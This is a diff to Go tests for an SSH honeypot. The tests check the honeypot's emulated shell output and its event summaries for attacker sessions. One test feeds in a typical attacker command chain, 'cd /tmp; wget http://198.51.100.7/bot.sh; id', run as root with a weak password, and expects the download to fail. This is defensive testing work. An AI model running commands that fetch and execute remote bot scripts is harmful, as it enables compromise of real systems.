@@ -123,7 +123,7 @@ func TestOpenSSHExec(t *testing.T) {
 	t.Logf("summary: %s\n%s", e.Summary, d)
 
 	out, err = runSSH(t, "", "secret", addr, "root", "cd /tmp; wget http://198.51.100.7/bot.sh; id")
-	if err != nil || !strings.Contains(out, "Connecting to 198.51.100.7:80... failed: Connection timed out.") || !strings.Contains(out, "uid=0(root)") {
+	if err != nil || !strings.Contains(out, "Connecting to 198.51.100.7:80... failed: Network is unreachable.") || !strings.Contains(out, "uid=0(root)") {
 		t.Fatalf("exec chain: %v %q", err, out)
 	}
 	e = rec.Wait(t, 2, eventWait)
@@ -134,15 +134,15 @@ func TestOpenSSHExec(t *testing.T) {
 func TestOpenSSHInteractive(t *testing.T) {
 	needTool(t, "ssh", "sshpass")
 	_, rec, addr := start(t, Config{Hostname: "web01"}, honeypot.Limits{})
-	out, err := runSSH(t, "ls /\npwd\necho $HOME\nnosuch\nexit\n", "secret", addr, "root", "-tt")
+	out, err := runSSH(t, "ls /\npwd\necho $HOME\nnosuch\ntrue\nexit\n", "secret", addr, "root", "-tt")
 	if err != nil {
 		t.Fatalf("ssh -tt: %v\n%s", err, out)
 	}
 	mustContain(t, "session output", out,
 		"Linux web01 6.1.0-23-amd64", "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY",
-		"root@web01:~# ", "bin  boot  dev  etc", "\r\n/root\r\n", "-bash: nosuch: command not found\r\n", "logout\r\n")
+		"\x1b[?2004hroot@web01:~# ", "\x1b[?2004l\rbin   etc ", "pwd\r\n\x1b[?2004l\r/root\r\n", "-bash: nosuch: command not found\r\n", "logout\r\n")
 	e := rec.Wait(t, 1, eventWait)
-	if !strings.HasPrefix(e.Summary, "SSH: login as root with password secret") || !strings.HasSuffix(e.Summary, ", 5 commands") {
+	if !strings.HasPrefix(e.Summary, "SSH: login as root with password secret") || !strings.HasSuffix(e.Summary, ", 6 commands") {
 		t.Errorf("summary %q", e.Summary)
 	}
 	mustContain(t, "details", hptest.TypedDetails(e), "1 pty-req ", "1 command: ls /\n", "1 command: pwd\n", "1 command: echo $HOME\n",
